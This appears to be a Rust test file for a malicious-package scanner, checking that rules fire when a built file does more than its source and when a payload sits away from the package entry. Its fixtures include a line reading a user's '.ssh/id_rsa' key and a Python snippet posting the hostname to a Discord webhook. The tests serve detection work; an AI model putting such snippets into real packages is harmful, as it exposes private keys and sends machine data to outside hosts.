//! Where in a package a payload stands, told beside what it does.

use crate::common::{scan_one, write};
use std::path::Path;

/// The rules told of the files of one package.
fn rules(files: &[(&str, &str)]) -> Vec<String> {
    let root = tempfile::tempdir().expect("a folder");
    let folder = root.path().join("made-up");
    write(&folder, files);
    let report = scan_one(Path::new(&folder));
    report.findings.into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn a_built_file_that_does_more_than_its_source_is_told() {
    let built = |source: &str| {
        rules(&[
            ("package.json", r#"{"name":"made-up","version":"1.0.0","main":"dist/index.js"}"#),
            ("dist/index.js", "exports.read = require('./read').read;\n"),
            ("dist/read.js", "exports.read = () => require('fs').readFileSync('.ssh/id_rsa');\n"),
            ("src/read.ts", source),
        ])
    };
    assert!(built("export const read = () => 1;\n").contains(&"M-06".to_owned()));
    let same = "import fs from 'fs';\nexport const read = () => fs.readFileSync('.ssh/id_rsa');\n";
    assert!(!built(same).contains(&"M-06".to_owned()));
}

#[test]
fn a_payload_away_from_the_entry_is_told() {
    const PAYLOAD: &str = "import socket, requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'a': socket.gethostname()})\n";
    let payload_in = |path: &str, entry: &str| {
        rules(&[
            ("made_up-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: made-up\nVersion: 1.0\n"),
            ("made_up-1.0.dist-info/RECORD", "made_up/__init__.py,,\nmade_up/locale.py,,\n"),
            ("made_up/__init__.py", entry),
            (path, PAYLOAD),
        ])
    };
    assert!(payload_in("made_up/locale.py", "version = 1\n").contains(&"M-07".to_owned()));
    assert!(!payload_in("made_up/__init__.py", PAYLOAD).contains(&"M-07".to_owned()));
}
